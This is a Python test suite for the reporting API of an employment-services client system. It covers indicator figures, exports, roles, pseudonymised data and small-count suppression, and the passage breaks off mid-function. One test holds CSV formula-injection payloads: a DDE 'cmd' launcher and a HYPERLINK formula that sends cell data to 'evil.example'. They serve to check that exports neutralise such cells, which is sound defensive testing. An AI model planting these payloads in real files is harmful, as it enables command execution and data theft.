#!/usr/bin/python3
"""Report API tests: builds one fixture through the API and checks that the figures from the API JSON, the CLI
(--format json), the CSV export and the dashboard page's data table are identical and equal to the numbers derived by
hand below; the outcome hook (derived "matches competence", override needs a reason); roles (figures only for
managers; the pseudonymised client table for admins, audited); XLSX and cross-tab.
Usage: test_reports.py OSAAJA_BINARY DB (a new SQLite file path, or an empty PostgreSQL database URL)."""
import csv
import io
import re
import sqlite3
import sys
import urllib.parse
import zipfile

from harness import Client, Server, Suite, db_sql, osaaja

BIN, DB = sys.argv[1], sys.argv[2]
IS_PG = DB.startswith("postgres")
PW = "Testi-salasana-2026"
ACC = {}
PERIOD = "from=2026-01-01&to=2026-06-30"

osaaja(BIN, "init", "--db", DB)
ORG = osaaja(BIN, "user", "add-org", "--db", DB, "--name", "Raportti-org", "--kind", "municipality").stdout.strip()
ORG2 = osaaja(BIN, "user", "add-org", "--db", DB, "--name", "Toinen", "--kind", "municipality").stdout.strip()
for role, org in [("admin", ORG), ("counsellor", ORG), ("manager", ORG), ("employer", ORG), ("coordinator", ORG),
                  ("manager2", ORG2)]:
    real = {"manager2": "manager"}.get(role, role)
    osaaja(BIN, "user", "add", "--db", DB, "--email", f"r-{role}@test.example.fi", "--name", role.title(), "--role",
           real, "--org", org, "--password", PW)
    ACC[role] = f"r-{role}@test.example.fi"

srv = Server(BIN, DB)
S = Suite("reports" + (" (postgres)" if IS_PG else " (sqlite)"))
IDS = {}


def as_(role):
    c = Client(srv)
    c.login(ACC[role], PW)
    return c


def ok(s, r, what, status=201):
    s.expect(r, status, what)
    return r.json if r.status == status else {}


def test_fixture(s):
    """Clients A and B in programme P1, C without a programme (hand-derived figures in test_figures)."""
    admin, c = as_("admin"), as_("counsellor")
    IDS["p1"] = ok(s, admin.post("/api/v1/programmes", {"name": "Osaajat P1", "target_groups": ["immigrant"]}),
                   "programme")["id"]
    a = ok(s, c.post("/api/v1/clients", {"first_name": "Aino", "last_name": "Testinen", "programme_id": IDS["p1"],
                                         "target_groups": ["immigrant"], "intake_on": "2026-01-15",
                                         "status": "active", "cv_ready": True, "email": "aino@example.org"}),
           "client A")["id"]
    b = ok(s, c.post("/api/v1/clients", {"first_name": "Bea", "last_name": "Testinen", "programme_id": IDS["p1"],
                                         "target_groups": ["highly_educated_immigrant", "spouse"],
                                         "intake_on": "2026-02-01", "status": "active"}), "client B")["id"]
    cc = ok(s, c.post("/api/v1/clients", {"first_name": "Cem", "last_name": "Testinen", "target_groups": ["immigrant"],
                                          "intake_on": "2025-12-01", "status": "paused"}), "client C")["id"]
    IDS.update(a=a, b=b, c=cc)
    for cid in (a, b):
        ok(s, c.post("/api/v1/educations", {"client_id": cid, "isced_level": 7, "isced_field": "0613"}), "education")
    ok(s, c.post("/api/v1/work-history", {"client_id": a, "isco_code": "2512", "title": "Ohjelmistokehittäjä"}),
       "work history")
    o1 = ok(s, c.post("/api/v1/outcomes", {"client_id": a, "type": "employed", "isco_code": "2512",
                                           "starts_on": "2026-03-01"}), "A's first job")
    s.check(o1.get("matches_competence") is True, f"derived: tertiary, same sub-major as before -> true: {o1}")
    o2 = ok(s, c.post("/api/v1/outcomes", {"client_id": a, "type": "employed", "isco_code": "9112",
                                           "starts_on": "2026-05-01"}), "A's second job")
    s.check(o2.get("matches_competence") is False, f"derived: tertiary in ISCO 9 -> false: {o2}")
    o3 = ok(s, c.post("/api/v1/outcomes", {"client_id": b, "type": "employed", "isco_code": "9112",
                                           "starts_on": "2026-04-01"}), "B's job")
    s.check(o3.get("matches_competence") is False, "B derived false")
    s.expect(c.patch(f"/api/v1/outcomes/{o3['id']}", {"override_matches": True}), 400,
             "override without a reason", "invalid", "override_reason")
    s.expect(c.post("/api/v1/outcomes", {"client_id": b, "type": "other", "starts_on": "2026-04-02",
                                         "override_matches": True, "override_reason": "  "}), 400,
             "create with an override and a blank reason", "invalid", "override_reason")
    r = ok(s, c.patch(f"/api/v1/outcomes/{o3['id']}", {"override_matches": True,
                                                       "override_reason": "käyttää ICT-osaamistaan kiinteistöjärjestelmissä"}),
           "override with a reason", 200)
    s.check(r.get("override_matches") is True and r.get("matches_competence") is False,
            "the override is kept apart from the derived value")
    r = c.patch(f"/api/v1/outcomes/{o3['id']}", {"matches_competence": True, "hours_per_week": 37})
    s.check(r.status in (200, 400) and (r.status == 400 or r.json.get("matches_competence") is False),
            f"matches_competence is set by the server only: {r.status} {r.body[:200]!r}")
    ed = ok(s, c.post("/api/v1/outcomes", {"client_id": cc, "type": "education", "starts_on": "2026-06-30"}),
            "C's education placement on the last day")
    s.check(ed.get("matches_competence") is None, "not judged for an education placement")
    for cid, day, typ in [(a, "2026-01-15", "intake"), (b, "2026-02-01", "intake"), (cc, "2026-02-02", "meeting"),
                          (cc, "2025-12-31", "meeting")]:
        ok(s, c.post("/api/v1/service-events", {"client_id": cid, "type": typ, "happened_on": day}), "event")
    emp = ok(s, c.post("/api/v1/employers", {"name": "Testi Oy"}), "employer")["id"]
    ok(s, c.post("/api/v1/employer-services", {"employer_id": emp, "type": "recruitment_service",
                                               "given_on": "2026-03-03"}), "employer service")


# served: A, B (intake), C (still open, event 02-02) = 3; new: A, B = 2; employed: A (2 jobs), B = 2, employments 3;
# own field final: A (first job), B (override) = 2 -> 100.0 %; derived: A = 1 -> 50.0 %; overrides 1;
# education placements: C (06-30, the boundary) = 1; median days: A 01-15 -> 03-01 = 45, B 02-01 -> 04-01 = 59 -> 52.0;
# events in the period 3 (C's 2025-12-31 is before) -> 1.00 per client; employers served 1; CV ready: A = 1.
EXPECTED = {"clients_served": 3, "new_clients": 2, "employed": 2, "employment_outcomes": 3, "employed_own_field": 2,
            "employed_own_field_pct": 100.0, "employed_own_field_derived": 1, "employed_own_field_derived_pct": 50.0,
            "own_field_overrides": 1, "education_placements": 1, "outcomes_employed": 3, "outcomes_education": 1,
            "outcomes_other": 0, "median_days_to_employment": 52.0, "service_events": 3,
            "service_events_per_client": 1.0, "employers_served": 1, "employer_services": 1, "cv_ready": 1,
            "survey_response_rate_pct": None, "hires": 0}


def api_figures(c, query=PERIOD):
    r = c.get("/api/v1/reports/indicators?" + query)
    assert r.status == 200, r.body[:300]
    return r.json["indicators"]


def test_figures(s):
    m = as_("manager")
    api = api_figures(m)
    for k, v in EXPECTED.items():
        s.check(api.get(k) == v, f"API {k} = {api.get(k)!r}, want {v!r}")
    # the CLI, through the same code path
    import json
    cli = json.loads(osaaja(BIN, "report", "--db", DB, "--org", ORG, "--from", "2026-01-01", "--to", "2026-06-30",
                            "--format", "json").stdout)["indicators"]
    s.check(cli == api, f"CLI JSON equals the API JSON: {[(k, cli.get(k), api[k]) for k in api if cli.get(k) != api[k]]}")
    # the CSV export, for funders: counts from 1 to 4 and the figures computed from them are "<5"
    r = m.get("/api/v1/reports/export.csv?" + PERIOD)
    s.expect(r, 200, "export.csv")
    s.check("attachment" in r.headers.get("Content-Disposition", ""), "CSV is an attachment")
    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8"))))
    csv_vals = {row[0]: row[2] for row in rows[1:] if row[0] not in ("filter", "suppression")}
    s.check(["suppression", "min_cell", "5"] in rows, "the CSV names its threshold")
    s.check(set(csv_vals) == set(api), "CSV has every indicator")
    hidden = suppressed(api, 5)
    for k, v in api.items():
        want = "" if v is None else "<5" if k in hidden else None
        s.check(csv_vals.get(k) == want if want is not None else
                (csv_vals.get(k) not in ("", None) and float(csv_vals[k]) == float(v)),
                f"CSV {k} = {csv_vals.get(k)!r}, API {v!r}, want {want!r}")
    s.check(csv_vals["clients_served"] == "<5" and csv_vals["outcomes_other"] == "0" and
            csv_vals["employed_own_field_pct"] == "<5" and csv_vals["median_days_to_employment"] == "<5",
            "small counts, zero shown, rate and median over fewer than 5 hidden")
    cli5 = osaaja(BIN, "report", "--db", DB, "--org", ORG, "--from", "2026-01-01", "--to", "2026-06-30",
                  "--format", "csv").stdout
    s.check(cli5.replace("\r\n", "\n").split("\n")[1:] == r.body.decode("utf-8").replace("\r\n", "\n").split("\n")[1:],
            "CLI CSV equals the API's export")
    cli2 = {row[0]: row[2] for row in csv.reader(io.StringIO(osaaja(
        BIN, "report", "--db", DB, "--org", ORG, "--from", "2026-01-01", "--to", "2026-06-30", "--format", "csv",
        "--min-cell", "2").stdout))}
    s.check(cli2["clients_served"] == "3" and cli2["employer_services"] == "<2" and cli2["suppression"] == "2",
            f"the threshold is configurable (--min-cell 2): {cli2.get('clients_served')} {cli2.get('employer_services')}")
    # the figures page: the shared layout, exact figures (staff-facing)
    r = m.get("/reports?" + PERIOD)
    s.expect(r, 200, "figures page")
    html = r.body.decode("utf-8")
    page = dict(re.findall(r'<td class="num" data-key="([a-z0-9_]+)" data-value="([^"]*)">', html))
    s.check(set(page) == set(api) and all((api[k] is None and page[k] == "") or
                                          (api[k] is not None and page[k] != "" and float(page[k]) == float(api[k]))
                                          for k in api),
            f"the page's figures are exact and equal the API: {[(k, page.get(k), api[k]) for k in api if page.get(k) != str(api[k])][:5]}")
    s.check('id="lang-menu"' in html and 'class="top"' in html and 'aria-current="page"' not in html.split("<main")[1],
            "the page is in the shared layout (header and language menu)")
    s.check(html.count("<svg") == 5 and html.count("<title id=") == 5 and html.count("<desc id=") == 5,
            "five SVG charts, each with <title> and <desc>")
    s.check(html.count('<table class="list data"') == 8,
            "a data table behind each chart, the indicator table, the three bases and the ESF+ indicators")
    s.check('<form method="get" action="/reports"' in html and 'name="programme_id"' in html and
            'name="target_group"' in html and 'name="municipality"' in html and 'name="from"' in html,
            "filters are a plain GET form (works without script)")
    s.check(re.search(r'href="/api/v1/reports/export\.csv\?lang=(fi|sv|en)&amp;from=2026-01-01&amp;to=2026-06-30"', html)
            and re.search(r'href="/api/v1/reports/export\.xlsx\?lang=(fi|sv|en)&amp;from=2026-01-01&amp;to=2026-06-30"',
                          html), "links to the exports, in the page's language")
    s.check("Osaajat P1" in html, "the programme filter lists the organisation's programmes")
    for secret in ["Aino", "Testinen", "aino@example.org"]:
        s.check(secret not in html, f"the page shows no personal data ({secret})")
    s.check("text/html" in r.headers.get("Content-Type", ""), "the page is HTML")
    r = m.get(f"/reports?{PERIOD}&programme_id={IDS['p1']}&target_group=spouse&municipality=Espoo")
    s.check(r.status == 200 and f'programme_id={IDS["p1"]}&amp;target_group=spouse&amp;municipality=Espoo' in
            r.body.decode("utf-8"), "export links keep every filter")
    # a period with nothing in it: the charts say so in a sentence instead of drawing empty axes
    empty = m.get("/reports?from=1990-01-01&to=1990-01-31").body.decode("utf-8")
    s.check("Valitulla ajanjaksolla ei ole laskettavaa." in empty and 'id="chart-target-group"' not in empty,
            "an empty breakdown reads as a sentence, not an empty chart")
    s.check("Valitulla ajanjaksolla ei alkanut työsuhteita" in empty and 'id="chart-own-field"' not in empty,
            "no employments: no share drawn, and the page says why")
    r = m.get("/reports?from=2026-13-01")
    s.check(r.status == 400 and 'role="alert"' in r.body.decode("utf-8") and "<svg" not in r.body.decode("utf-8"),
            f"a bad filter shows the form with a message and no figures ({r.status})")


def suppressed(api, k):
    """The rule of docs/outcomes.md, written again here: counts 1..k-1, and the rates, ratio and median over them."""
    hid = {key for key, v in api.items() if isinstance(v, int) and not isinstance(v, bool) and 0 < v < k}
    for out, a, b in [("employed_own_field_pct", "employed_own_field", "employed"),
                      ("employed_own_field_derived_pct", "employed_own_field_derived", "employed"),
                      ("employed_pct_served", "employed", "clients_served"),
                      ("employed_own_field_pct_served", "employed_own_field", "clients_served"),
                      ("employed_pct_left", "left_employed", "left_service"),
                      ("employed_own_field_pct_left", "left_employed_own_field", "left_service"),
                      ("still_employed_3_pct", "still_employed_3", "followups_3"),
                      ("still_employed_6_pct", "still_employed_6", "followups_6"),
                      ("still_employed_12_pct", "still_employed_12", "followups_12"),
                      ("still_in_region_12_pct", "still_in_region_12", "followups_12"),
                      ("survey_response_rate_pct", "survey_responded", "survey_invitations"),
                      ("service_events_per_client", "service_events", "clients_served")]:
        if api[out] is not None and (a in hid or b in hid):
            hid.add(out)
    if api["median_days_to_employment"] is not None:
        hid.add("median_days_to_employment")  # the fixture's median is over 2 clients
    return hid


def test_filters_and_crosstab(s):
    m = as_("manager")
    p1 = api_figures(m, PERIOD + f"&programme_id={IDS['p1']}")
    s.check(p1["clients_served"] == 2 and p1["employed"] == 2, f"programme filter: A and B: {p1['clients_served']}")
    sp = api_figures(m, PERIOD + "&target_group=spouse")
    s.check(sp["clients_served"] == 1 and sp["employed_own_field"] == 1, "target group spouse: B")
    im = api_figures(m, PERIOD + "&target_group=immigrant")
    s.check(im["clients_served"] == 2, "target group immigrant: A and C, not B (highly_educated_immigrant)")
    empty = api_figures(m, "from=2030-01-01&to=2030-01-31")
    s.check(empty["employed"] == 0 and empty["employed_own_field_pct"] is None, "empty period")
    s.expect(m.get("/api/v1/reports/indicators?from=2026-13-01"), 400, "bad date", "invalid", "from")
    s.expect(m.get("/api/v1/reports/indicators?from=2026-06-01&to=2026-01-01"), 400, "from after to", "invalid")
    s.expect(m.get("/api/v1/reports/indicators?organisation_id=2"), 400, "no other organisation", "invalid")
    s.expect(m.get("/api/v1/reports/indicators?target_group=x"), 400, "bad target group", "invalid", "target_group")
    other = api_figures(as_("manager2"), PERIOD)
    s.check(other["clients_served"] == 0, "another organisation's manager sees none of these clients")
    r = m.get("/api/v1/reports/crosstab?rows=programme&cols=target_group&" + PERIOD)
    s.expect(r, 200, "crosstab")
    x = r.json
    s.check(x["total"] == 4 and x["rows"] == "programme", f"crosstab counts 4 outcomes: {x.get('total')}")
    cell = {(rl, cl): x["cells"][i][k] for i, rl in enumerate(x["row_labels"]) for k, cl in enumerate(x["col_labels"])}
    s.check(cell.get((f"Osaajat P1 #{IDS['p1']}", "spouse")) == 1 and
            cell.get((f"Osaajat P1 #{IDS['p1']}", "immigrant")) == 2, f"crosstab cells {cell}")
    r = m.get("/api/v1/reports/crosstab?rows=month&cols=outcome_type&" + PERIOD)
    s.check(r.status == 200 and len(r.json["row_labels"]) == 6, "month rows cover the period")
    s.expect(m.get("/api/v1/reports/crosstab?rows=month&cols=own_field&measure=new_clients&" + PERIOD), 400,
             "dimension not for new clients", "invalid", "cols")
    s.expect(m.get("/api/v1/reports/crosstab?rows=nope&cols=month"), 400, "bad dimension", "invalid", "rows")
    r = m.get("/api/v1/reports/export.xlsx?" + PERIOD)
    s.expect(r, 200, "export.xlsx")
    z = zipfile.ZipFile(io.BytesIO(r.body))
    s.check("xl/workbook.xml" in z.namelist(), "XLSX is a workbook")
    strings = z.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in z.namelist() else ""
    s.check("&lt;5" in strings and "min_cell" in strings, "the workbook hides small counts too")
    r = m.get("/api/v1/reports/crosstab.csv?rows=target_group&cols=outcome_type&" + PERIOD)
    s.expect(r, 200, "crosstab.csv")
    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8"))))
    cells = [c for row in rows[1:] if row[0] not in ("suppression",) for c in row[1:]]
    s.check(all(c == "0" or c == "<5" or (c.isdigit() and int(c) >= 5) for c in cells) and "<5" in cells,
            f"the funder's cross-tab shows no count from 1 to 4: {rows}")
    s.check(["suppression", "min_cell", "5"] in rows, "the cross-tab CSV names its threshold")
    r = m.get("/api/v1/reports/crosstab?rows=target_group&cols=outcome_type&" + PERIOD)
    s.check(r.status == 200 and r.json["total"] == 4 and "min_cell" not in r.json, "the JSON cross-tab stays exact")


def test_profile_change_rederives(s):
    """A profile change re-derives "matches competence" of the client's outcomes (D is outside the 2026 period)."""
    c = as_("counsellor")
    d = ok(s, c.post("/api/v1/clients", {"first_name": "Dan", "last_name": "Testinen", "target_groups": ["immigrant"],
                                         "intake_on": "2024-02-01", "status": "closed"}), "client D")["id"]
    o = ok(s, c.post("/api/v1/outcomes", {"client_id": d, "type": "employed", "isco_code": "7212",
                                          "starts_on": "2024-06-01"}), "D's job")
    s.check(o.get("matches_competence") is False, f"no profile yet -> false: {o.get('matches_competence')}")
    w = ok(s, c.post("/api/v1/work-history", {"client_id": d, "isco_code": "7214", "title": "Hitsaaja"}),
           "D's work history")
    s.check(c.get(f"/api/v1/outcomes/{o['id']}").json.get("matches_competence") is True,
            "adding work history in the same ISCO minor group re-derives it as true")
    ok(s, c.patch(f"/api/v1/work-history/{w['id']}", {"isco_code": "5120"}), "D's work history changed", 200)
    s.check(c.get(f"/api/v1/outcomes/{o['id']}").json.get("matches_competence") is False,
            "changing the work history re-derives it as false")
    ok(s, c.patch(f"/api/v1/work-history/{w['id']}", {"isco_code": "7214"}), "changed back", 200)
    s.expect(c.delete(f"/api/v1/work-history/{w['id']}"), 200, "work history archived")
    s.check(c.get(f"/api/v1/outcomes/{o['id']}").json.get("matches_competence") is False,
            "archiving the work history re-derives it as false")
    ok(s, c.post("/api/v1/target-occupations", {"client_id": d, "isco_code": "7213"}), "D's target occupation")
    s.check(c.get(f"/api/v1/outcomes/{o['id']}").json.get("matches_competence") is True,
            "a target occupation in the same minor group re-derives it as true")


def test_roles_and_pseudonymised_export(s):
    m, e = as_("manager"), as_("employer")
    s.expect(e.get("/api/v1/reports/indicators?" + PERIOD), 403, "employer sees no figures", "forbidden")
    s.expect(m.get("/api/v1/clients"), 403, "manager sees no personal data", "forbidden")
    s.expect(m.get("/api/v1/reports/clients.csv?" + PERIOD), 403, "manager gets no client-level table", "forbidden")
    s.expect(as_("counsellor").get("/reports?" + PERIOD), 200, "counsellor sees the dashboard")
    s.expect(as_("coordinator").get("/api/v1/reports/indicators?" + PERIOD), 200, "coordinator sees figures")
    admin = as_("admin")
    r1, r2 = admin.get("/api/v1/reports/clients.csv?" + PERIOD), admin.get("/api/v1/reports/clients.csv?" + PERIOD)
    s.expect(r1, 200, "admin exports the pseudonymised table")
    text = r1.body.decode("utf-8")
    for secret in ["Aino", "Bea", "Testinen", "aino@example.org", "2026-01-15"]:
        s.check(secret not in text, f"no names, contacts or exact dates ({secret})")
    rows = list(csv.DictReader(io.StringIO(text)))
    api = api_figures(m)
    s.check(len(rows) == api["clients_served"], "one row per client served")
    s.check(sum(int(r["employments"]) for r in rows) == api["employment_outcomes"], "employments sum")
    n = int(db_sql(DB, f"SELECT COUNT(*) FROM audit_log WHERE action = 'export' AND entity = 'clients' "
                       f"AND detail LIKE 'pseudonymised clients.csv rows={len(rows)} %'")[0][0])
    s.check(n == 2, f"each export of the table is audited with its row count ({n})")
    s.check(sum(r["own_field"] == "1" for r in rows) == api["employed_own_field"], "own field (final) count")
    s.check(sum(r["own_field_derived"] == "1" for r in rows) == api["employed_own_field_derived"], "derived count")
    s.check(sum(int(r["new_client"]) for r in rows) == api["new_clients"], "new clients")
    s.check(sum(int(r["service_events"]) for r in rows) == api["service_events"], "service events")
    days = sorted(int(r["days_to_first_employment"]) for r in rows if r["days_to_first_employment"])
    s.check(days == [45, 59], f"days to first employment {days}")
    ids1 = {r["pseudonym"] for r in rows}
    ids2 = {r["pseudonym"] for r in csv.DictReader(io.StringIO(r2.body.decode("utf-8")))}
    s.check(len(ids1) == len(rows) and not ids1 & ids2, "pseudonyms are unique and differ between exports")
    if not IS_PG:
        con = sqlite3.connect(DB)
        n = con.execute("SELECT COUNT(*) FROM audit_log WHERE action = 'export' AND entity = 'clients'").fetchone()[0]
        con.close()
        s.check(n == 2, f"each export is audited ({n})")


EVIL = ["-1+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"x")', "@SUM(1)", "+1", "\tTAB", "-5"]


def neutral(cell):
    """A cell a spreadsheet does not read as a formula: it does not start with = + - @ tab or CR."""
    return not cell or cell[0] not in "=+-@\t\r"


def test_csv_injection(s):
    """Issue 19 item 5: every text cell of every CSV that starts like a formula goes out as '... inside quotes,
    including "-1+cmd..." (a minus and a digit); the numbers osaaja writes stay numbers."""
    admin, c, m = as_("admin"), as_("counsellor"), as_("manager")
    q = "from=2025-01-01&to=2025-06-30"
    for i, name in enumerate(EVIL):
        p = ok(s, admin.post("/api/v1/programmes", {"name": name, "target_groups": ["immigrant"]}), "programme")["id"]
        ok(s, c.post("/api/v1/clients", {"first_name": f"Eve{i}", "last_name": "Testinen", "programme_id": p,
                                         "target_groups": ["immigrant"], "intake_on": "2025-03-01",
                                         "municipality": name, "status": "active"}), "client with a formula name")
    r = m.get(f"/api/v1/reports/crosstab.csv?rows=programme&cols=municipality&measure=new_clients&{q}")
    s.expect(r, 200, "crosstab.csv with formula names")
    text = r.body.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    labels = rows[0][1:-1] + [row[0] for row in rows[1:]]
    s.check(all(neutral(x) for x in labels), f"every label is neutralised: {labels}")
    s.check("\"'-1+cmd|' /C calc'!A0\"" in text and "\"'@SUM(1)\"" in text and "\"'+1\"" in text and
            "\"'=HYPERLINK(" in text, "the apostrophe is inside the quotes")
    s.check("\"'-5\"" in text, "a name that looks like a negative number is text, not a number")
    nums = [x for row in rows[1:] for x in row[1:] if row[0] != "suppression"]
    s.check(all(x in ("0", "<5") or x.isdigit() for x in nums), f"counts stay plain numbers: {nums}")
    for name in EVIL[:4]:
        r = m.get("/api/v1/reports/export.csv?" + q + "&" + urllib.parse.urlencode({"municipality": name}))
        s.expect(r, 200, "export.csv with a formula municipality")
        rows = list(csv.reader(io.StringIO(r.body.decode("utf-8"))))
        s.check(all(neutral(x) for row in rows for x in row), f"export.csv neutralised for {name!r}: {rows[:8]}")
        r = m.get("/api/v1/reports/crosstab.csv?rows=municipality&cols=outcome_type&" + q + "&" +
                  urllib.parse.urlencode({"municipality": name}))
        s.expect(r, 200, "crosstab.csv filtered")
        rows = list(csv.reader(io.StringIO(r.body.decode("utf-8"))))
        s.check(all(neutral(x) for row in rows for x in row), f"crosstab.csv neutralised for {name!r}: {rows}")
    r = admin.get("/api/v1/reports/clients.csv?" + q)
    s.expect(r, 200, "clients.csv")
    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8"))))
    s.check(len(rows) > 1 and all(neutral(x) for row in rows for x in row), f"clients.csv neutralised: {rows[:3]}")



def catalogue(lang):
    import json
    import os
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "i18n", lang + ".json"),
              encoding="utf-8") as f:
        return json.load(f)


def test_localised_exports(s):
    """Issue 13 item 11: with ?lang=fi|sv the CSV opens in columns in a Finnish-locale Excel (UTF-8 byte order mark,
    semicolons, decimal comma, CRLF), headers and values in that language; English keeps the comma; the workbook and
    the evaluators' table follow the same language; the formula guard stays."""
    m, admin = as_("manager"), as_("admin")
    machine = {row[0]: row[2] for row in csv.reader(io.StringIO(m.get("/api/v1/reports/export.csv?" + PERIOD)
                                                                    .body.decode("utf-8")))}
    for lang, sep in [("fi", ";"), ("sv", ";"), ("en", ",")]:
        t = catalogue(lang)
        r = m.get(f"/api/v1/reports/export.csv?lang={lang}&" + PERIOD)
        s.expect(r, 200, f"export.csv in {lang}")
        s.check(r.body.startswith(b"\xef\xbb\xbf"), f"{lang}: a UTF-8 byte order mark")
        text = r.body.decode("utf-8-sig")
        s.check(text.endswith("\r\n") and "\n" not in text.replace("\r\n", ""), f"{lang}: CRLF lines")
        rows = list(csv.reader(io.StringIO(text), delimiter=sep))
        s.check(rows[0] == [t["rep.indicator"], t["rep.value"]], f"{lang}: the header in the language: {rows[0]}")
        got = {row[0]: row[1] for row in rows[1:] if len(row) == 2}
        for key, v in machine.items():
            if key in ("indicator", "filter", "suppression"):
                continue
            want = v.replace(".", ",") if sep == ";" else v
            s.check(got.get(t["rep.ind." + key]) == want,
                    f"{lang}: {key} as {t['rep.ind.' + key]!r} = {got.get(t['rep.ind.' + key])!r}, want {want!r}")
        s.check("clients_served" not in text and "filter" not in text, f"{lang}: no machine keys in the file")
        s.check(got.get(t["rep.from"]) == "2026-01-01", f"{lang}: the period named in the language")
    # a figure with decimals that no small count hides: 5 clients, 7 service events in 2023 (1.4 per client)
    c, q23 = as_("counsellor"), "from=2023-01-01&to=2023-06-30"
    for i in range(5):
        cid = ok(s, c.post("/api/v1/clients", {"first_name": f"Desi{i}", "last_name": "Testinen",
                                               "target_groups": ["immigrant"], "intake_on": "2023-02-01",
                                               "status": "active"}), "a 2023 client")["id"]
        for _ in range(2 if i < 2 else 1):
            ok(s, c.post("/api/v1/service-events", {"client_id": cid, "type": "meeting", "happened_on": "2023-03-01"}),
               "an event")
    en = {row[0]: row[2] for row in csv.reader(io.StringIO(m.get("/api/v1/reports/export.csv?" + q23).body
                                                                .decode("utf-8")))}
    fi = {row[0]: row[1] for row in csv.reader(io.StringIO(m.get("/api/v1/reports/export.csv?lang=fi&" + q23).body
                                                                .decode("utf-8-sig")), delimiter=";")}
    s.check(float(en.get("service_events_per_client", "0")) == 1.4 and "." in en["service_events_per_client"] and
            fi.get(catalogue("fi")["rep.ind.service_events_per_client"]) ==
            en["service_events_per_client"].replace(".", ","),
            f"a decimal comma in Finnish: {en.get('service_events_per_client')!r} -> "
            f"{fi.get(catalogue('fi')['rep.ind.service_events_per_client'])!r}")
    s.expect(m.get("/api/v1/reports/export.csv?lang=xx&" + PERIOD), 400, "an unknown language", "invalid", "lang")
    t = catalogue("fi")
    r = m.get("/api/v1/reports/crosstab.csv?lang=fi&rows=target_group&cols=outcome_type&" + PERIOD)
    s.expect(r, 200, "crosstab.csv in Finnish")
    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8-sig")), delimiter=";"))
    s.check(rows[0][0] == t["rep.dim.target_group"] + " \\ " + t["rep.dim.outcome_type"] and
            t["rep.type.employed"] in rows[0] and rows[0][-1] == t["rep.total"], f"the cross-tab header: {rows[0]}")
    labels = [row[0] for row in rows[1:]]
    s.check(t["v.immigrant"] in labels and t["v.spouse"] in labels and "immigrant" not in labels and
            [t["rep.export.min_cell"], "5"] in rows, f"the target groups named in Finnish: {labels}")
    r = m.get("/api/v1/reports/export.xlsx?lang=fi&" + PERIOD)
    s.expect(r, 200, "export.xlsx in Finnish")
    z = zipfile.ZipFile(io.BytesIO(r.body))
    strings = z.read("xl/sharedStrings.xml").decode("utf-8")
    book = z.read("xl/workbook.xml").decode("utf-8")
    s.check(t["rep.ind.clients_served"] in strings and t["rep.type.employed"] in strings and
            "clients_served" not in strings and "min_cell" not in strings and "&lt;5" in strings,
            "the workbook's rows in Finnish, small counts hidden")
    s.check(t["rep.sheet.indicators"] in book and "Indicators" not in book, "the sheets named in Finnish")
    r = admin.get("/api/v1/reports/clients.csv?lang=fi&" + PERIOD)
    s.expect(r, 200, "clients.csv in Finnish")
    rows = list(csv.DictReader(io.StringIO(r.body.decode("utf-8-sig")), delimiter=";"))
    statuses = {t["v." + st] for st in ["intake", "active", "paused", "employed", "education", "closed"]}
    s.check(len(rows) >= 3 and all(x[t["rep.clients.status"]] in statuses for x in rows) and
            all(x[t["rep.clients.target_groups"]] and "_" not in x[t["rep.clients.target_groups"]] for x in rows),
            f"the evaluators' table in Finnish: {rows[:1]}")
    q = "from=2025-01-01&to=2025-06-30"
    r = m.get(f"/api/v1/reports/crosstab.csv?lang=fi&rows=programme&cols=municipality&measure=new_clients&{q}")
    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8-sig")), delimiter=";"))
    s.check(len(rows) > 3 and all(neutral(x) for row in rows for x in row), f"the formula guard in Finnish: {rows[:3]}")
    r = m.get(f"/api/v1/reports/export.csv?lang=sv&{q}&" + urllib.parse.urlencode({"municipality": EVIL[1]}))
    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8-sig")), delimiter=";"))
    s.check(all(neutral(x) for row in rows for x in row), f"the formula guard in Swedish: {rows[:5]}")


def test_partial_work_ability_suppressed(s):
    """Issue 19 item 10: a count about partial work ability below OSAAJA_REPORT_MIN_CELL is hidden in the JSON and on
    the page too (for staff), not only in the exports; other figures stay exact."""
    c, m = as_("counsellor"), as_("manager")
    q = "from=2024-01-01&to=2024-06-30"
    ok(s, c.post("/api/v1/clients", {"first_name": "Pia", "last_name": "Testinen",
                                     "target_groups": ["partial_work_ability"], "intake_on": "2024-02-01",
                                     "status": "active"}), "a client with partial work ability")
    ok(s, c.post("/api/v1/clients", {"first_name": "Ilo", "last_name": "Testinen", "target_groups": ["immigrant"],
                                     "intake_on": "2024-02-01", "status": "active"}), "an immigrant client")
    r = m.get(f"/api/v1/reports/indicators?{q}&target_group=partial_work_ability")
    s.expect(r, 200, "indicators for partial work ability")
    s.check(r.json["indicators"]["new_clients"] == "<5" and r.json.get("min_cell") == 5,
            f"the JSON hides the count of 1: {r.json['indicators'].get('new_clients')}")
    r = m.get(f"/api/v1/reports/indicators?{q}&target_group=immigrant")
    s.check(isinstance(r.json["indicators"]["new_clients"], int) and "min_cell" not in r.json,
            f"other groups stay exact: {r.json}")
    r = m.get(f"/api/v1/reports/crosstab?rows=target_group&cols=month&measure=new_clients&{q}")
    s.expect(r, 200, "crosstab with a partial-work-ability row")
    x = r.json
    i = x["row_labels"].index("partial_work_ability")
    s.check(all(v in (0, "<5") for v in x["cells"][i]) and "<5" in x["cells"][i] and x["row_totals"][i] == "<5",
            f"the JSON cross-tab hides the partial-work-ability counts: {x}")
    page = m.get(f"/reports?{q}&target_group=partial_work_ability").body.decode("utf-8")
    s.check('data-key="new_clients" data-value="&lt;5"' in page, "the page hides the count of 1")
    s.check(not re.search(r'data-key="(new_clients|clients_served)" data-value="1"', page), "no exact 1 on the page")


def test_served_by_event_days(s):
    """Served through a service event: the days of the client's first and last event on its row (migration 0026)
    spare the probe; an event between them is still found, a moved event moves them, erasure clears them."""
    c, m = as_("counsellor"), as_("manager")

    def served(year):
        return api_figures(m, f"from={year}-01-01&to={year}-12-31")["clients_served"]

    def days(cid):  # as text, NULL as "None" (SQLite) or "" (PostgreSQL)
        row = db_sql(DB, f"SELECT service_first_on, service_last_on FROM clients WHERE id = {int(cid)}")[0]
